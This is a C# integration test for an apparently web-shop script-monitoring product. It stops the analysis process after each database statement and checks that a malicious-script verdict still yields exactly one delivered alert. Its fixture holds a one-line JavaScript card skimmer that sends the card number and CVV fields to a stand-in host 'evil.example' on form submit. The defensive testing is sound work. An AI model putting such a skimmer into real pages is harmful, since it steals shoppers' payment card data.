using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.Logging.Abstractions;
using Microsoft.Extensions.Options;
using PageShield.Alerts;
using PageShield.Alerts.Channels;
using PageShield.Alerts.Channels.Transports;
using PageShield.Alerts.Delivery;
using PageShield.Alerts.Raising;
using PageShield.Detection;
using PageShield.Detection.Examination;
using PageShield.IntegrationTests.Alerts;
using PageShield.Inventory;
using PageShield.Inventory.Scripts;
using PageShield.Pipeline;
using PageShield.Pipeline.Verdicts;
using PageShield.Reports;
using PageShield.Sites;
using PageShield.Storage;

namespace PageShield.IntegrationTests.Detection;

/// <summary>The process ends after every single statement between a content that waits and the alert that is delivered about it.</summary>
public sealed class InterruptedVerdictTests
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Wherever_the_process_ends_a_verdict_ends_in_exactly_one_alert_that_is_delivered(Provider provider)
    {
        await using var shops = await AlertedShops.OpenAsync(provider);
        await shops.AddChannelAsync();
        var statements = 0;
        while (true)
        {
            statements++;
            var (site, content) = await AddPendingAsync(shops, statements);
            var process = new StoppedProcess(statements);

            await Assert.ThrowsAsync<ProcessStoppedException>(() => RunAsync(shops, shops.Database.With(process), stop: true));
            if (!process.IsStopped) break;
            shops.Clock.Advance(TimeSpan.FromMinutes(15)); // whatever lease the ended process held is over
            await RunAsync(shops, shops.Database, stop: false);

            await AssertToldOnceAsync(shops, site, content, statements);
        }

        Assert.InRange(statements, 15, 500); // the path has at least its claims, reads, writes and commits
    }

    /// <summary>A new process: analyses what waits, then delivers what is due.</summary>
    /// <exception cref="ProcessStoppedException">It was ended; or, where that is wanted, it came to its end by itself.</exception>
    private static async Task RunAsync(AlertedShops shops, IDbContextFactory<PageShieldDbContext> databases, bool stop)
    {
        var signal = new AlertSignal();
        var verdicts = new VerdictUpdate(new RecordingTransaction(databases, new PipelineSignals(signal)), new AlertRaiser(shops.Clock));
        var analysis =
            new ScriptAnalysis(new JudgementQueue(databases, new ScriptExaminer(), shops.Clock), verdicts, NullLogger<ScriptAnalysis>.Instance);
        while (await analysis.AnalyseNextAsync(Cancel))
        {
        }

        var options = Options.Create(new AlertOptions { DashboardUrl = new Uri("https://shield.example/") });
        var sender = new AlertSender(
            databases, [shops.Sent], signal, new DeliveryLog(databases, signal, options, shops.Clock),
            new AlertEscalator(databases, shops.Clock, NullLogger<AlertEscalator>.Instance), options,
            Options.Create(new MailOptions()), shops.Clock, NullLogger<AlertSender>.Instance);
        await sender.SendDueAsync(Cancel);
        if (stop) throw new ProcessStoppedException();
    }

    /// <summary>A shop of its own with a script of its own, so that nothing of an earlier round counts.</summary>
    private static async Task<(Site Site, Sha256Hash Content)> AddPendingAsync(AlertedShops shops, int number)
    {
        var site = await shops.AddShopAsync($"shop{number}.example");
        var script = await shops.AddScriptAsync(site, $"https://vendor{number}.example/x.js");
        var source = $$"""document.addEventListener('submit', function () { fetch('https://evil{{number}}.example/c', { method: 'POST', body: document.querySelector('#cc-number').value + document.querySelector('#cvv').value }); });""";
        var content =
            new ScriptContent
            {
                Sha256 = Sha256Hash.OfText(source),
                Length = source.Length,
                Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)),
                FirstSeenAt = shops.Clock.GetUtcNow()
            };
        await shops.AskAsync(async database =>
        {
            database.ScriptContents.Add(content);
            database.ScriptVersions.Add(
                new ScriptVersion
                {
                    SiteId = site.Id,
                    ScriptId = script.Id,
                    Sha256 = content.Sha256,
                    Url = script.Url,
                    FirstSeenAt = shops.Clock.GetUtcNow(),
                    LastSeenAt = shops.Clock.GetUtcNow()
                });
            (await database.Scripts.SingleAsync(row => row.SiteId == site.Id && row.Id == script.Id, Cancel)).CurrentSha256 = content.Sha256;
            JudgementQueue.Enqueue(
                database, [content], site.Id, new Dictionary<Sha256Hash, long> { [content.Sha256] = script.Id }, shops.Clock.GetUtcNow());
            return 0;
        });
        return (site, content.Sha256);
    }

    private static async Task AssertToldOnceAsync(AlertedShops shops, Site site, Sha256Hash content, int statement)
    {
        await using var database = shops.Database.CreateDbContext();
        Assert.Equal(VerdictKind.Malicious,
            await database.Scripts.Where(script => script.SiteId == site.Id).Select(script => script.Verdict).SingleAsync(Cancel));
        Assert.False(await database.PendingJudgements.AnyAsync(row => row.Sha256 == content, Cancel),
            $"Ended after statement {statement}: the content still waits.");
        var alerts = await database.Alerts.Where(alert => alert.SiteId == site.Id).ToListAsync(Cancel);
        Assert.True(alerts.Count == 1, $"Ended after statement {statement}: {alerts.Count} alerts.");
        var delivery = Assert.Single(await database.AlertDeliveries.Where(row => row.SiteId == site.Id).ToListAsync(Cancel));
        Assert.Equal(DeliveryState.Delivered, delivery.State);
        // At least once: the process may have ended between sending and noting it, and then the repetition bears the same id.
        Assert.InRange(shops.Sent.Messages.Count(message => message.MessageId == delivery.MessageId), 1, 2);
    }
}
